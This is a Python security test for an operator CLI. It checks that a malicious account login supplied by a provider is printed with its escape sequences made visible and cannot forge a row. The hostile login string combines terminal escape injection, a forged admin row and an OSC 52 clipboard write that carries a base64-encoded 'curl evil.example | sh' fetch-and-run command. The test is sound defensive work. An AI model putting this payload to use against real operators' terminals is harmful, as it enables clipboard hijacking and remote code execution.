"""The operator's terminal: an account label is the provider's word (its user endpoint's `login`),
and `connections list` / `connections revoke` print it. A provider that answers with terminal
escape sequences (erase the row above, move the cursor, OSC 52 to write the operator's clipboard,
C1 CSI) or a line break and a forged row gets them printed escaped, on the row they belong to,
as the text log writes them (docs/threat-model.md, "Operators' controls"; CWE-150).

The CLI runs in process (`main`, in a thread: it runs its own event loop) on the demo's settings,
as an operator's shell next to the replicas would.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

import anyio
import pytest
from starlette.responses import JSONResponse

from mock_providers.testing.browser import Browser
from mock_providers.testing.client import MODES, mcp_client
from service.ops.cli import main
from tests.security.attack import Servers, attack, unique
from tests.security.flows import connect_fully, elicit, manual, retry

pytestmark = pytest.mark.security

# What a terminal would act on: C0 but LF, DEL, C1 (CSI 0x9b and OSC 0x9d among them).
ACTED_ON = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")
FORGED_ROW = "admin  https://as  mockhub  1  root  repo  ok"
HOSTILE_LOGIN = (
    "mallory\x1b[2K\x1b[1A"  # erase this row, cursor up
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: set the clipboard
    "\x9b2J\x7f"  # C1 CSI (clear screen), DEL
    f"\r\n{FORGED_ROW}"  # a row of its own
)


@pytest.fixture
def cli_on_demo(servers: Servers, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The CLI reads the demo's settings (what --config and MCPUC_* load for `serve`)."""
    monkeypatch.setattr("service.ops.cli.preamble.load_settings", lambda **_: servers.demo.settings)
    yield


async def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = await anyio.to_thread.run_sync(main, list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.mark.parametrize("mode", MODES)
async def test_provider_supplied_labels_reach_the_operators_terminal_escaped(
    servers: Servers,
    browser: Browser,
    other_browser: Browser,
    cli_on_demo: None,
    capsys: pytest.CaptureFixture[str],
    mode: str,
) -> None:
    victim, bystander = unique("cli-mallory"), unique("cli-bob")
    async with elicit(servers, bystander, mode) as e:
        await connect_fully(browser, servers, e.url, bystander, login="bob-at-mockhub")
        await retry(e)
    # The provider's user endpoint answers Mallory's connection with a hostile login.
    profile = {"id": 31337, "login": HOSTILE_LOGIN, "name": "Mallory"}
    servers.recording["providers"].replace["/mockhub/user"] = JSONResponse(profile)
    try:
        async with elicit(servers, victim, mode) as e:
            await connect_fully(other_browser, servers, e.url, victim)
    finally:
        servers.recording["providers"].replace.clear()

    async with attack(servers, removed_connections=1) as a:
        code, listed, _ = await cli(capsys, "connections", "list", "--provider", "mockhub")
        a.check(code == 0, "connections list ran")
        code, as_json, _ = await cli(capsys, "connections", "list", "--user", victim, "--json")
        a.check(
            code == 0 and json.loads(as_json)[0]["account_label"] == HOSTILE_LOGIN,
            "JSON: the label exact (as stored: 128 characters at most)",
        )
        code, revoked, _ = await cli(capsys, "connections", "revoke", "--user", victim)
        a.check(code == 0, "connections revoke ran")
        for output in (listed, as_json, revoked):
            a.check(not ACTED_ON.search(output), f"nothing a terminal acts on: {output[:300]!r}")
            a.check(not any(line.startswith("admin ") for line in output.splitlines()), "no forged row")
        rows = listed.splitlines()
        mallory = [row for row in rows if row.startswith(victim)]
        a.check(len(mallory) == 1 and FORGED_ROW in mallory[0], "the label stays on its own row, escaped")
        a.check(
            "\\x1b]52;c;" in mallory[0] and "\\x9b2J\\x7f\\r\\n" in mallory[0], "written as visible escapes"
        )
        a.check(any(row.startswith(bystander) for row in rows), "the bystander is listed")
        a.check(f"deleted {victim} mockhub 31337" in revoked, "the revocation names the account")
        async with mcp_client(servers, bystander, mode, on_url=manual) as (client, _):
            a.check(not (await client.session.call_tool("whoami", {})).is_error, "the bystander is served")
